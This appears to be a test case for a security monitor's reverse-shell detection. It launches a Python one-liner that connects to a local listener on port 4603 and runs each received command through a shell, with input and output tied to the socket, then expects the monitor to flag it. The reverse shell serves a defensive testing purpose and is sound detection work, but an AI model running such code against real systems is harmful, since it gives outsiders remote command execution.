# R27: python runs each command of a peer by a shell on its connection
# stage: behaviour
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.process_id: $python
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4603

#: prepare
. lib/peers.sh
commander 4603 300 'id; sleep 0.1'
#: act
. lib/peers.sh
act
python3 -c '
import socket, subprocess
s = socket.create_connection(("127.0.0.1", 4603))
for command in s.makefile():
    subprocess.run(command, shell=True, stdin=s, stdout=s, stderr=s)' \
  < /dev/null > /dev/null 2>&1 & fact python $!
await 'at $python 3 socket:*'
